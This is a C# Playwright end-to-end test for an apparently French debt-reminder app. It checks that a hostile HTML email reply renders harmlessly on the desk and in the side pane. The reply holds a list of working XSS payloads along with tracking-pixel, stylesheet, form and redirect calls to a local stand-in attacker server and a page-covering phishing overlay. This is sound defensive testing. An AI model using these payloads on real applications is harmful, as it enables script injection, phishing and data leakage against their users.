using System.Net;
using System.Net.Http.Json;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using Microsoft.Playwright;

namespace Relance.E2E;

/// <summary>A debtor answers with everything that a message can carry to act in a page: it is read on the desk and in the pane, and does nothing.</summary>
public sealed class HostileReplyTests(Product product) : IClassFixture<Product>
{
    /// <summary>Somebody's server: whoever calls it is counted.</summary>
    private static readonly TcpListener Listener = Listen();
    private static readonly string Elsewhere = $"http://127.0.0.1:{((IPEndPoint)Listener.LocalEndpoint).Port}";

    /// <summary>Each of these would run a script, call home, send a form, or cover the page, were it let.</summary>
    private static readonly string[] Attacks =
    [
        "<script>window.top.owned = 1</script>",
        "<img src=x onerror=\"window.top.owned = 2\">",
        "<svg><script>window.top.owned = 3</script><animate onbegin=\"window.top.owned = 4\" attributeName=x dur=1s /></svg>",
        "<a id=trap href=\"javascript:window.top.owned = 5\">Le virement</a>",
        "<iframe srcdoc=\"<script>window.top.owned = 6</script>\"></iframe>",
        "<object data=\"data:text/html,<script>window.top.owned = 7</script>\"></object>",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"window.top.owned = 8\"></style></mglyph></table></mtext></math>",
        $"<img src=\"{Elsewhere}/pixel.gif\" width=1 height=1>",
        $"<link rel=stylesheet href=\"{Elsewhere}/style.css\"><style>@import '{Elsewhere}/more.css'; body {{ background: url({Elsewhere}/back.png) }}</style>",
        $"<meta http-equiv=refresh content=\"0;url={Elsewhere}/\"><base href=\"{Elsewhere}/\">",
        $"<form action=\"{Elsewhere}/take\"><input name=iban value=x autofocus onfocus=\"window.top.owned = 9\"><button>Confirmer</button></form>",
        "<div style=\"position:fixed;inset:0;z-index:99999;background:#fff\">Reconnectez-vous</div>",
        "<a href=\"data:text/html,<script>window.top.owned = 10</script>\">Facture</a><video src=x onerror=\"window.top.owned = 11\"></video>",
    ];

    [Fact]
    public async Task Whatever_a_reply_carries_nothing_runs_and_nothing_calls_home()
    {
        await using var stage = await Stage.OpenAsync(product.Desk);
        await stage.PaneText("clients à relancer aujourd").WaitForAsync();
        await Answer();

        await stage.Page.ReloadAsync();
        await stage.Folder("Boîte de réception").ClickAsync();
        await stage.Page.GetByText("Paiement imminent").First.ClickAsync();
        await Assertions.Expect(stage.Page.GetByText("Bonjour, voici notre réponse.").First).ToBeVisibleAsync();
        await ReadInPane(stage);

        Assert.Null(await stage.Page.EvaluateAsync<int?>("window.owned ?? null"));
        Assert.False(Listener.Pending(), "Somebody's server was called.");
        Assert.StartsWith(product.Desk, stage.Page.Url, StringComparison.Ordinal);
    }

    private static TcpListener Listen()
    {
        var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        return listener;
    }

    /// <summary>The pane tells the reply as text beside the message, and the customer's page opens: whatever covers a page would be in the way of the click.</summary>
    private static async Task ReadInPane(Stage stage)
    {
        await Assertions.Expect(stage.PaneText("Bonjour, voici notre réponse.")).ToBeVisibleAsync();
        await stage.PaneButton("Ouvrir la fiche").First.ClickAsync();
        await Assertions.Expect(stage.PaneText("Réponse de samia@quaiperdu.example")).ToBeVisibleAsync();
    }

    /// <summary>One reminder is drafted and sent; the answer to it comes over the wire as its sender wrote it.</summary>
    private async Task Answer()
    {
        using var http = new HttpClient { BaseAddress = new Uri($"{product.Desk}/api/") };
        var token = (await http.GetFromJsonAsync<JsonElement>($"{product.Mailbox}/_control/token?user=claire")).GetProperty("access_token").GetString();
        http.DefaultRequestHeaders.Authorization = new("Bearer", token);
        var company = (await http.GetFromJsonAsync<JsonElement>("companies"))[0].GetProperty("id").GetInt64();
        var customer = (await http.GetFromJsonAsync<JsonElement>($"companies/{company}/customers?search=Quai&limit=1")).GetProperty("items")[0].GetProperty("id").GetInt64();
        using var begun = await http.PostAsJsonAsync($"companies/{company}/reminders", new { customerIds = new[] { customer } });
        var operation = (await begun.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetString();
        await http.GetStringAsync($"operations/{operation}/events");
        var item = (await http.GetFromJsonAsync<JsonElement>($"companies/{company}/reminders?state=drafted")).GetProperty("items")[0].GetProperty("itemId").GetString();
        using var sent = await http.PostAsJsonAsync($"{product.Mailbox}/_control/messages/{item}/send", new { client = "owa" });
        var reminder = (await sent.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("internetMessageId").GetString();

        var mime = $"From: Samia Belkhodja <samia@quaiperdu.example>\r\nTo: claire@atelier-morin.example\r\nSubject: Paiement imminent\r\nIn-Reply-To: {reminder}\r\nReferences: {reminder}\r\n"
            + $"Message-ID: <{Guid.NewGuid():N}@quaiperdu.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + Convert.ToBase64String(Encoding.UTF8.GetBytes($"<html><body><p>Bonjour, voici notre réponse.</p>{string.Concat(Attacks)}</body></html>"), Base64FormattingOptions.InsertLineBreaks);
        using var arrived = await http.PostAsJsonAsync($"{product.Mailbox}/_control/incoming/mime", new { user = "claire", mime });
        Assert.True(arrived.IsSuccessStatusCode, await arrived.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
        using var synced = await http.PostAsync("sync", null);
        Assert.True(synced.IsSuccessStatusCode);
    }
}
